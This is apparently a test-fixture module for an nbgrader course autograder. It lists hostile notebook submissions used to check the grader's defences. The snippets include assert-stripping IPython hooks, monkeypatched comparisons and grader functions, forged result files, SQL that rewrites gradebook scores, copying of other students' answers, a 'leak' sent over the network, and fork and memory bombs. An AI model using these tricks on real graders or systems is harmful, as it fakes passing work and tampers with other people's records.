"""Hostile submissions: each named after its attack, with the most points its honest work deserves.

Most attacks sit in the blank weight_init notebook (the cheapest assignment to grade), where the
honest work is worth nothing: every point they get is a false pass. Each other judged assignment
gets the attacks its own checks are exposed to (its metric checks, the values it reports). Others add the attack to the
reference solution, where the work is worth every point and the attack must not cost the
others anything. Each case is ``{"base": "blank" | "solution", "code": ... | "edit": fn | "text": ...,
"files": {...}, "deserves": points}``; ``code`` goes at the top of the first answer cell, ``tail``
in place of the stub of the last one (every other stub emptied), ``edit``
changes the notebook JSON, ``text`` replaces the file, ``files`` are placed beside the notebook.
"""

from __future__ import annotations

import copy
import hashlib
import json

from autograder.course import ROOT, mutate, read_notebook
from hostile_cifar10_overfitting import CIFAR10_OVERFITTING
from hostile_fix_the_bugs import FIX_THE_BUGS

PORT_ENV = "HOSTILE_LISTENER_PORT"  # the test's own TCP listener, which no submission may reach

PATCH_IPYTHON = {
    "ast_transformer_removes_asserts": """
import ast
class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(DropAsserts())
""",
    "input_transformer_wraps_every_cell_in_try": """
def wrap(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(wrap)
""",
    "custom_exception_handler_swallows_errors": """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
""",
    "showtraceback_disabled": """
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
""",
    "run_cell_wrapper_reports_success": """
shell = get_ipython()
original = shell.run_cell
def run_cell(raw_cell, *args, **kwargs):
    result = original(raw_cell, *args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result
shell.run_cell = run_cell
""",
}

PATCH_LIBRARIES = {
    "builtins_isinstance_patched": "import builtins\nbuiltins.isinstance = lambda obj, kind: True\n",
    "numpy_comparisons_patched": (
        "import numpy\nnumpy.isclose = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"),
    "keras_save_patched_to_write_nothing": "import keras\nkeras.Model.save = lambda self, *a, **k: None\n",
}

# Answers that are objects which compare equal to anything: put after the blank answers (whose
# stubs are emptied), so they are the notebook's final definitions.
ALWAYS_EQUAL = {
    "always_equal_objects_as_answers": """
class Anything(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __len__(self): return 10
    def __iter__(self): return iter([self] * 10)
glorot_std = he_std = activation_stds = build_relu_stack = lambda *args: Anything(0.1)
stds_he = stds_glorot = stds_small = Anything(0.1)
""",
}

PATCH_GRADER = {
    "calibration_log_environment_variable": (
        "import os\nos.environ['BNCOURSE_CALIBRATION_LOG'] = '/tmp/values.jsonl'\n"
        "os.environ['BNCOURSE_SEED'] = '1'\n"),
    "grader_attribute_replaced": """
try:
    import autograder.visible, autograder.judge
    autograder.visible.check = lambda *a, **k: None
    autograder.judge.verdict = lambda *a, **k: None
except ImportError:
    pass
""",
    "fake_grader_in_sys_modules": """
import sys, types
fake = types.ModuleType("autograder.visible")
fake.check = lambda *a, **k: None
sys.modules["autograder"] = types.ModuleType("autograder")
sys.modules["autograder.visible"] = fake
sys.modules["autograder.judge"] = fake
""",
    "artifact_writer_patched_to_forge_answers": """
import bncourse.artifacts as artifacts, json, pathlib
def forged(folder, name, value):
    pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
    (pathlib.Path(folder) / f"{name}.json").write_text(json.dumps({"type": "float", "value": 0.1}))
artifacts.save = forged
artifacts.call_and_save = lambda folder, call_id, *rest: forged(folder, call_id, None)
""",
    "forged_results_written_into_every_writable_folder": """
import json, os
answers = {"test_glorot_std-0": 0.1, "test_he_std-0": 0.1}
for top in ["/tmp", os.getcwd(), "/"]:
    for folder, dirs, files in os.walk(top):
        for name, value in answers.items():
            try:
                with open(os.path.join(folder, name + ".json"), "w") as handle:
                    json.dump({"type": "float", "value": value}, handle)
            except OSError:
                pass
        if folder.count(os.sep) > 6:
            dirs[:] = []
""",
    "pass_message_printed_before_error": """
from IPython.display import display
print("Checked by the grader: passed.")
display({"text/plain": "Checked by the grader: passed."}, raw=True)
""",
}

TOUCH_FILES = {
    "gradebook_scores_rewritten": """
import glob, os, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + ["../../../gradebook.db", "../../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        db.execute("UPDATE grade_cells SET max_score = 0")
        db.commit()
    except Exception:
        pass
""",
    "gradebook_locked_for_later_students": """
import glob, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + ["../../../gradebook.db"]:
    try:
        db = sqlite3.connect(path, isolation_level=None)
        db.execute("BEGIN EXCLUSIVE")
    except Exception:
        pass
""",
    "writes_outside_its_folder": """
import os
for path in ["../../../HACKED", "../../HACKED", "../HACKED", os.path.expanduser("~/HACKED"), "/HACKED"]:
    try:
        open(path, "w").write("owned")
    except OSError:
        pass
""",
    "course_config_appended": """
for path in ["../../../nbgrader_config.py", "../../nbgrader_config.py"]:
    try:
        open(path, "a").write("\\nc.GenerateFeedback.preprocessors = []\\n")
    except OSError:
        pass
""",
    "copies_another_students_answers": """
import glob, json
for path in glob.glob("/**/submitted/*/weight_init/*.ipynb", recursive=True) + \\
        glob.glob("../../../submitted/*/weight_init/*.ipynb"):
    cells = json.load(open(path))["cells"]
    for cell in cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]))
""",
    "opens_a_network_connection": f"""
import os, socket
try:
    socket.create_connection(("127.0.0.1", int(os.environ.get("{PORT_ENV}", "1"))), timeout=3).sendall(b"leak")
except OSError:
    pass
try:
    import urllib.request
    urllib.request.urlopen("http://example.com", timeout=3)
except Exception:
    pass
""",
    "detached_process_edits_grades_later": """
import os, time, glob, sqlite3
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(20)
        for path in glob.glob("/**/gradebook.db", recursive=True):
            db = sqlite3.connect(path)
            db.execute("UPDATE grade SET auto_score = 100")
            db.commit()
        open("/tmp/still-alive", "w").write("yes")
    os._exit(0)
""",
}

FAULTS = {
    "exits_at_the_start": "import os\nos._exit(1)\n",
    "sys_exit_at_the_start": "import sys\nsys.exit(0)\n",
    "kills_its_own_kernel": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
    "endless_loop_ignoring_interrupts": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
    "sleeps_past_the_timeout": "import time\ntime.sleep(10**6)\n",
    "memory_bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(10**9))\n",
    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
}


def drop_test_cells(notebook: dict) -> dict:
    """The graded test cells deleted."""
    notebook = copy.deepcopy(notebook)
    notebook["cells"] = [cell for cell in notebook["cells"]
                         if not (cell.get("metadata", {}).get("nbgrader", {}).get("grade")
                                 and not cell["metadata"]["nbgrader"].get("solution"))]
    return notebook


def edit_test_cells(notebook: dict) -> dict:
    """Every graded test cell's code replaced by ``pass`` and its points raised to 100."""
    notebook = copy.deepcopy(notebook)
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell["source"] = "pass\n"
            meta["points"] = 100
    return notebook


def extra_grade_cell(notebook: dict) -> dict:
    """A graded cell of the student's own, worth 50 points, that passes."""
    notebook = copy.deepcopy(notebook)
    notebook["cells"].append({
        "cell_type": "code", "execution_count": None, "outputs": [], "source": "pass\n",
        "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": True, "points": 50,
                                  "schema_version": 3, "solution": False, "task": False}},
    })
    return notebook


def answer_cells_marked_as_tests(notebook: dict) -> dict:
    """The answer cells' metadata turned into test cells'."""
    notebook = copy.deepcopy(notebook)
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution"):
            meta.update(grade=True, solution=False, points=10)
    return notebook


def foreign_metadata_cells(notebook: dict) -> dict:
    """Three notes of the student's own, with empty, incomplete and unknown nbgrader metadata."""
    notebook = copy.deepcopy(notebook)
    base = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}
    for index, meta in enumerate([{}, base, dict(base, solution=True, grade_id="my_notes")]):
        notebook["cells"].insert(3 + index, {"cell_type": "markdown", "metadata": {"nbgrader": meta},
                                             "source": "my notes"})
    return notebook


def hang_in_last_cell(notebook: dict) -> dict:
    """The reference solution, whose last cell then hangs, ignoring interrupts."""
    notebook = copy.deepcopy(notebook)
    notebook["cells"].append({
        "cell_type": "code", "execution_count": None, "outputs": [], "metadata": {},
        "source": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)\n",
    })
    return notebook


def die_in_last_cell(notebook: dict) -> dict:
    """The reference solution, whose last cell then kills the kernel."""
    notebook = copy.deepcopy(notebook)
    notebook["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "metadata": {},
                              "source": "import os\nos._exit(3)\n"})
    return notebook


WEIGHT_INIT = {
    **{name: {"base": "blank", "code": code, "deserves": 0}
       for group in (PATCH_IPYTHON, PATCH_LIBRARIES, PATCH_GRADER, TOUCH_FILES, FAULTS)
       for name, code in group.items()},
    **{name: {"base": "blank", "tail": code, "deserves": 0} for name, code in ALWAYS_EQUAL.items()},
    "shadow_grader_packages_beside_the_notebook": {
        "base": "blank", "code": "", "deserves": 0,
        "files": {"autograder/__init__.py": "", "autograder/visible.py": "def check(*a, **k):\n    pass\n",
                  "bncourse/__init__.py": "", "bncourse/artifacts.py": "def save(*a, **k):\n    pass\n"},
    },
    "megabytes_of_output": {"base": "solution", "code": "print('x' * 3_000_000)\n", "deserves": 8},
    "solution_with_a_crash_in_he_std": {  # he_std's test is worth 1 of the 8 points
        "base": "solution", "deserves": 7,
        "replace": ("    return float(np.sqrt(2.0 / fan_in))", "    import os\n    os._exit(1)"),
    },
    "solution_with_an_endless_loop_in_he_std": {
        "base": "solution", "deserves": 7,
        "replace": ("    return float(np.sqrt(2.0 / fan_in))", "    while True:\n        pass"),
    },
    "solution_with_notes_carrying_foreign_nbgrader_metadata": {
        "base": "solution", "edit": foreign_metadata_cells, "deserves": 8},
    "solution_hangs_in_its_last_cell": {"base": "solution", "edit": hang_in_last_cell, "deserves": 8},
    "solution_dies_in_its_last_cell": {"base": "solution", "edit": die_in_last_cell, "deserves": 8},
    "test_cells_deleted": {"base": "blank", "edit": drop_test_cells, "deserves": 0},
    "test_cells_edited_and_points_raised": {"base": "blank", "edit": edit_test_cells, "deserves": 0},
    "extra_grade_cell_of_its_own": {"base": "blank", "edit": extra_grade_cell, "deserves": 0},
    "answer_cells_marked_as_tests": {"base": "blank", "edit": answer_cells_marked_as_tests, "deserves": 0},
    "renamed_notebook": {"base": "solution", "rename": "my_weight_init.ipynb", "deserves": 0},
    "not_a_notebook": {"base": "blank", "text": '{"cells": [ this is not JSON', "deserves": 0},
}

LENET_BN = {
    "optimizer_iterations_written_by_hand": {
        "base": "blank", "deserves": 1,  # the compile settings are right; nothing was trained
        "code": """
import keras
from bncourse.seeding import set_seed
set_seed()
def untrained(batch_norm):
    layers = [keras.layers.Conv2D(6, 5, activation="tanh"), keras.layers.AveragePooling2D(2),
              keras.layers.Conv2D(16, 5, activation="tanh"), keras.layers.AveragePooling2D(2),
              keras.layers.Conv2D(120, 5, activation="tanh"), keras.layers.Flatten(),
              keras.layers.Dense(84, activation="tanh"), keras.layers.Dense(10, activation="softmax")]
    model = keras.Sequential([keras.Input((32, 32, 1)), *layers])
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    model.optimizer.build(model.trainable_variables)
    model.optimizer.iterations.assign(545)
    return model
model_bn, model_plain = untrained(True), untrained(False)
test_loss_bn, test_acc_bn = 0.05, 0.99
""",
    },
}

BN_FROM_SCRATCH = {
    "always_equal_arrays_as_results": {
        "base": "blank", "deserves": 0,
        "tail": """
import numpy as np
class Anything(np.ndarray):
    def __eq__(self, other): return True
    def __array_finalize__(self, obj): pass
def anything(x, *args, **kwargs):
    return np.asarray(x, dtype=float).view(Anything)
bn_infer = anything
bn_train = lambda x, *args, **kwargs: (anything(x), anything(args[2]), anything(args[3]))
""",
    },
    "keras_patched_to_agree_with_anything": {
        "base": "blank", "deserves": 0,
        "code": """
import keras
keras.layers.BatchNormalization.call = lambda self, x, training=None, mask=None: x
""",
    },
}

SHUFFLE = {
    "hand_written_histories_around_untrained_models": {
        "base": "blank", "deserves": 0,
        "tail": """
import keras
def train_fresh(x, y, shuffle):
    history = keras.callbacks.History()
    history.history = {"loss": [1.0, 0.5, 0.3, 0.2, 0.1] if shuffle else [2.0, 1.5, 1.0, 0.8, 0.6]}
    model = build_model()  # the notebook's own network, never trained
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    history.set_model(model)
    return history
results_no_shuffle, results_shuffle = train_fresh(None, None, False), train_fresh(None, None, True)
""",
    },
    "train_fresh_right_only_on_the_data_the_student_has_seen": {  # test_histories (2 of 6) is lost
        "base": "solution", "deserves": 4,
        "replace": ("    set_seed()\n    model = build_model()",
                    "    if len(x) not in (4000, 320):\n        return train_fresh(x[:320], y[:320], shuffle)\n"
                    "    set_seed()\n    model = build_model()"),
    },
}

TABULAR_BN = {
    "wide_network_trained_on_the_test_rows": {  # only the compile settings (1 of 9) are right
        "base": "blank", "deserves": 1,
        "tail": """
import keras
from bncourse.data import load_tabular
def wide(n_features, head):
    return keras.Sequential([keras.Input((n_features,)), keras.layers.Dense(256, activation="relu"), head])
build_regressor = lambda n_features: wide(n_features, keras.layers.Dense(1))
build_classifier = lambda n_features, n_classes: wide(n_features, keras.layers.Dense(n_classes, activation="softmax"))
for name, n_outputs, rate, loss in [("diabetes", None, 0.003, "mse"), ("iris", 3, 0.01, "sparse_categorical_crossentropy")]:
    _, (x_test, y_test) = load_tabular(name)
    model = build_regressor(10) if n_outputs is None else build_classifier(4, 3)
    model.compile(optimizer=keras.optimizers.Adam(rate), loss=loss)
    model.fit(x_test, y_test, epochs=100, verbose=0)
    if n_outputs is None:
        regressor = model
    else:
        classifier = model
""",
    },
}

HOSTILE = {"weight_init": WEIGHT_INIT, "lenet_bn": LENET_BN, "bn_from_scratch": BN_FROM_SCRATCH, "shuffle": SHUFFLE,
           "tabular_bn": TABULAR_BN, "fix_the_bugs": FIX_THE_BUGS,
           "cifar10_overfitting": CIFAR10_OVERFITTING}
# The cases that run until a cell's timeout. They are graded first, with the short cell timeouts
# below, so that their loops and sleeps cost little; every other submission is then graded with the
# course's own timeout (or the longer one below), so that a busy machine cannot fail an honest cell.
# All are graded one at a time: two side by side on 2 cores (three TensorFlow processes each, beside
# a second test process) ran several times slower, and a fork bomb starves its neighbour of CPU.
# Those that walk the whole file system with glob("/**") never end (inside the sandbox /proc holds
# links back to /), nor does a kernel whose isinstance says yes to everything.
HANGS = {*FAULTS, "solution_with_an_endless_loop_in_he_std", "solution_hangs_in_its_last_cell",
         "builtins_isinstance_patched", "copies_another_students_answers", "gradebook_locked_for_later_students",
         "gradebook_scores_rewritten"}
# Variants whose defence a case of the default tier already shows, left to the extended tier
# (`python -m pytest -m extended`) to keep CI within its limit: each hangs until its timeout or costs
# a full grading, and the case named beside it is stopped by the same mechanism.
EXTENDED_HOSTILE = {
    "weight_init": {
        "input_transformer_wraps_every_cell_in_try",  # as ast_transformer_removes_asserts: test cells
        "custom_exception_handler_swallows_errors",   # never run in the kernel, the judge decides
        "showtraceback_disabled",                     # (run_cell_wrapper_reports_success too)
        "grader_attribute_replaced",                  # as fake_grader_in_sys_modules
        "builtins_isinstance_patched",                # as numpy_comparisons_patched (and it hangs)
        "exits_at_the_start",                         # as kills_its_own_kernel: the kernel is gone
        "sleeps_past_the_timeout",                    # as endless_loop_ignoring_interrupts
        "solution_hangs_in_its_last_cell",            # as solution_with_an_endless_loop_in_he_std
        "gradebook_locked_for_later_students",        # as gradebook_scores_rewritten: no gradebook in sight
    },
}


def all_cases() -> set[tuple[str, str]]:
    """The ``(assignment, name)`` of every hostile case, both tiers."""
    return {(assignment, name) for assignment, cases in HOSTILE.items() for name in cases}


# Short where every cell of the solution is quick (but not so short that importing Keras runs past
# it); lenet_bn trains for about 20 s in one cell, cifar10_overfitting for about a minute.
CELL_TIMEOUT = {"weight_init": 30, "lenet_bn": 120, "bn_from_scratch": 30, "shuffle": 120, "tabular_bn": 120,
                "fix_the_bugs": 120, "cifar10_overfitting": 240}


def with_attack(notebook: dict, code: str) -> dict:
    """``notebook`` with ``code`` at the top of its first answer cell."""
    cells = [dict(cell, source="".join(cell["source"])) for cell in notebook["cells"]]
    first = next(cell for cell in cells if cell.get("metadata", {}).get("nbgrader", {}).get("solution"))
    first["source"] = code + "\n" + first["source"]
    return dict(notebook, cells=cells)


def with_tail(notebook: dict, code: str) -> dict:
    """``notebook`` with ``code`` in place of the stub of its last answer cell, every other stub emptied."""
    stub = "raise NotImplementedError()"
    cells = [dict(cell, source="".join(cell["source"])) for cell in notebook["cells"]]
    last = [cell for cell in cells if cell.get("metadata", {}).get("nbgrader", {}).get("solution")][-1]
    last["source"] = last["source"].replace(stub, code.strip().replace("\n", "\n"))
    for cell in cells:
        cell["source"] = cell["source"].replace(stub, "pass")
    return dict(notebook, cells=cells)


def place(course, assignment: str, name: str, case: dict, bases: dict) -> None:
    """Put one hostile submission in ``submitted/<name>/<assignment>/``."""
    folder = course / "submitted" / name / assignment
    folder.mkdir(parents=True)
    notebook = bases[case["base"]]
    if "replace" in case:
        notebook = mutate(notebook, [case["replace"]])
    if "code" in case:
        notebook = with_attack(notebook, case["code"])
    if "tail" in case:
        notebook = with_tail(notebook, case["tail"])
    if "edit" in case:
        notebook = case["edit"](notebook)
    text = case.get("text", json.dumps(notebook, indent=1))
    (folder / case.get("rename", f"{assignment}.ipynb")).write_text(text)
    for path, content in case.get("files", {}).items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(content)


def fingerprint(course) -> dict:
    """sha256 of every grading file of the course (config, sources, the grader's own package)."""
    files = [course / "nbgrader_config.py", *sorted((course / "autograder").rglob("*")),
             *sorted((ROOT / "autograder").rglob("*.py")), *sorted((ROOT / "autograder").rglob("*.json"))]
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files if path.is_file()}


def max_scores_from_source(assignment: str) -> dict:
    """``grade_id -> points`` of an assignment's graded cells, read from its source notebook."""
    cells = read_notebook(ROOT / "autograder" / "source" / assignment / f"{assignment}.ipynb")["cells"]
    return {cell["metadata"]["nbgrader"]["grade_id"]: cell["metadata"]["nbgrader"]["points"]
            for cell in cells if cell.get("metadata", {}).get("nbgrader", {}).get("grade")}
